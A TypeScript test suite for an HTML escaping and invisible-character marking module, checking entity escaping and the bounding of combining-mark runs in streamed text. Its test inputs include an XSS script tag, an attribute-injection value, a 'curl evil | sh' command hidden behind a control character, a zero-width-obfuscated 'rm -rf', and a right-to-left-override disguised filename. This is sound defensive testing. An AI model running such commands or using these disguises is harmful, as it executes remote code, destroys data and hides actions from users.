import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createInvisibleMarker } from '@x/core';
import { escapeHtml, escapeHtmlText, markInvisible, markInvisibleDelta } from './escape-html.js';

function unescapeHtml(html: string): string {
  return decodeNotation(html.replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[name] ?? ''));
}

/** Reads `\x1b`, `\u202e` and `\u{e0041}` notation back into the characters. */
function decodeNotation(text: string): string {
  return text.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\u\{([0-9a-f]+)\}/g, (_m, x?: string, u?: string, astral?: string) => String.fromCodePoint(parseInt(x ?? u ?? astral ?? '', 16)));
}

const ENTITIES: Record<string, string> = { '"': '&quot;', '&': '&amp;', "'": '&#39;', '<': '&lt;', '>': '&gt;' };

/**
 * The reference: the five HTML characters as entities, and between them the
 * invisible characters as @x/core's marker writes them (its own test holds
 * it to Unicode's properties code point by code point). Every HTML character
 * is ASCII, so it ends a run of marks and a joiner's or selector's context
 * as it would in the whole text.
 */
function reference(text: string, quotes = true): string {
  return text
    .split(/(["&'<>])/)
    .map((piece) => (piece.length === 1 && ENTITIES[piece] !== undefined && (quotes || (piece !== '"' && piece !== "'")) ? ENTITIES[piece] : markByCore(piece)))
    .join('');
}
const markByCore = createInvisibleMarker();

/** Short texts of joiners beside ASCII, non-ASCII, surrogates and the other special characters. */
const JOINER_TEXT = fc
  .array(fc.constantFrom('a', ' ', '<', '"', '\u200c', '\u200d', '\u200b', '\u00e9', '\u0645', '\ud83d', '\udc69', '\x1b', '\u202e', '\x9d', '\ufe0f', '\u0301\u0301\u0301', '\u{e0041}', '\u3164', '\u00ad'), { maxLength: 12 })
  .map((pieces) => pieces.join(''));

describe('escapeHtml', () => {
  it.each([
    ['', ''],
    ['plain text', 'plain text'],
    ['a & b', 'a &amp; b'],
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['"quoted"', '&quot;quoted&quot;'],
    ["it's", 'it&#39;s'],
    ['&amp; stays literal', '&amp;amp; stays literal'],
    ['&#106;avascript:', '&amp;#106;avascript:'],
    ['" onmouseover="x', '&quot; onmouseover=&quot;x'],
    ['</style>', '&lt;/style&gt;'],
    ['`backticks` and = signs', '`backticks` and = signs'],
    ['emoji 😀 and 日本語', 'emoji 😀 and 日本語'],
    ['\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', '\ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
  ])('escapes %j', (input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it.each([
    ['an escape sequence', 'a\x1b[2Jb', 'a\\x1b[2Jb'],
    ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
    ['a right-to-left override', 'invoice.\u202efdp.exe', 'invoice.\\u202efdp.exe'],
    ['bidi isolates and marks', '\u2066a\u2069\u200e\u061c', '\\u2066a\\u2069\\u200e\\u061c'],
    ['zero-width characters in a command', 'r\u200bm -\u200drf \u2060\ufeff', 'r\\u200bm -\\u200drf \\u2060\\ufeff'],
    ['NUL and DEL', '\x00\x7f', '\\x00\\x7f'],
  ])('marks %s visibly', (_name, input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it('keeps tabs and line ends as they are', () => {
    expect(escapeHtml('a\tb\r\nc\n')).toBe('a\tb\r\nc\n');
  });

  it('leaves no character that could open a tag or close an attribute, and loses nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const html = escapeHtml(text);
        expect(html).not.toMatch(/[<>"'\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
        expect(unescapeHtml(html)).toBe(decodeNotation(text));
      }),
      { seed: 14 },
    );
  });

  it('marks joiners, selectors, marks and invisibles as the reference does, the HTML characters as entities', () => {
    fc.assert(
      fc.property(JOINER_TEXT, (text) => {
        expect(escapeHtml(text)).toBe(reference(text));
      }),
      { seed: 18, numRuns: 20_000 },
    );
    expect(escapeHtml('\u00e9\u200c\u00e9 a\u200c\u00e9 \u200d \u00e9\u200c\x9d')).toBe('\u00e9\u200c\u00e9 a\\u200c\u00e9 \\u200d \u00e9\\u200c\\x9d');
  });

  it.each([
    ['tag characters spelling a hidden instruction', 'ok\u{e0072}\u{e006d}', 'ok\\u{e0072}\\u{e006d}'],
    ['Hangul fillers and a soft hyphen', '\u3164\u115f r\u00adm', '\\u3164\\u115f r\\xadm'],
    ['Zalgo text', `Z${'\u0301'.repeat(12)}`, `Z${'\u0301'.repeat(8)}${'\\u0301'.repeat(4)}`],
  ])('marks %s beyond the old list', (_name, input, expected) => {
    expect(escapeHtml(input)).toBe(expected);
  });

  it('turns a value that is not a string into text instead of throwing', () => {
    expect(escapeHtml(undefined as unknown as string)).toBe('');
    expect(escapeHtml(42 as unknown as string)).toBe('42');
  });
});

describe('escapeHtmlText', () => {
  it('escapes what escapeHtml escapes but the quotes, which it leaves as they are', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), JOINER_TEXT);
    fc.assert(
      fc.property(text, (value) => {
        const html = escapeHtmlText(value);
        // Nothing can open a tag or an entity; quotes mean nothing in element text.
        expect(html).not.toMatch(/[<>\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|&(?!amp;|lt;|gt;)/);
        expect(html.replaceAll('"', '&quot;').replaceAll("'", '&#39;')).toBe(escapeHtml(value));
        expect(html).toBe(reference(value, false));
      }),
      { seed: 18, numRuns: 5000 },
    );
    expect(escapeHtmlText(`a "b" <c> & 'd' \u202e`)).toBe(`a "b" &lt;c&gt; &amp; 'd' \\u202e`);
  });

  it('turns a value that is not a string into text instead of throwing', () => {
    expect(escapeHtmlText(null as unknown as string)).toBe('');
    expect(escapeHtmlText(7 as unknown as string)).toBe('7');
  });
});

describe('markInvisible', () => {
  it('marks what escapeHtml marks and leaves the five HTML characters', () => {
    fc.assert(
      fc.property(JOINER_TEXT, (text) => {
        expect(markInvisible(text)).toBe(markByCore(text));
        expect(escapeHtml(text)).toBe(reference(text));
      }),
      { seed: 18, numRuns: 20_000 },
    );
  });
});

describe('markInvisibleDelta', () => {
  // biome-ignore lint/complexity/useRegexLiterals: a literal with the v flag needs an ES2024 target
  const MARK_RUN = new RegExp(String.raw`(?:[[\p{Mn}\p{Me}]--[\ufe0f]][\u200c\u200d\ufe0f]*){9,}`, 'v');

  /** The live text of a block streamed in `deltas`, as the DOM renderer builds it. */
  function live(deltas: readonly string[]): string {
    let marks = 0;
    return deltas
      .map((delta) => {
        const shown = markInvisibleDelta(marks, delta);
        marks = shown.marks;
        return shown.text;
      })
      .join('');
  }

  it('bounds a run of combining marks that the deltas of a streamed block split', () => {
    const eight = '\u0301'.repeat(8);
    expect(live(['a', eight, eight, eight])).toBe(`a${eight}${'\\u0301'.repeat(16)}`);
    expect(live([`a${'\u0301\ufe0f'.repeat(4)}`, '\u0301'.repeat(6)])).not.toMatch(MARK_RUN);
    expect(live(['\u0928\u094d', '\u200d\u0924 ok'])).toBe('\u0928\u094d\\u200d\u0924 ok');
    expect(live([`a${'\u0301'.repeat(8)}`, '\u0301\ufe0f\u0301'])).toBe(`a${'\u0301'.repeat(8)}\\u0301\\ufe0f\\u0301`);
  });

  it('never lets more than 8 marks stack, however the text is cut', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', 'é', '\u0301', '\u0301\u0301\u0301', '\u0301\ufe0f', '\u0301\u200d', '\ufe0f', '\u200d', ' ', '\u202e'), { maxLength: 40 }), fc.array(fc.nat(40)), (pieces, cuts) => {
        const text = pieces.join('');
        const at = [...new Set(cuts.map((cut) => Math.min(cut, text.length)))].sort((a, b) => a - b);
        const deltas = [0, ...at].map((start, i) => text.slice(start, [...at, text.length][i]));
        expect(live(deltas)).not.toMatch(MARK_RUN);
      }),
    );
  });
});
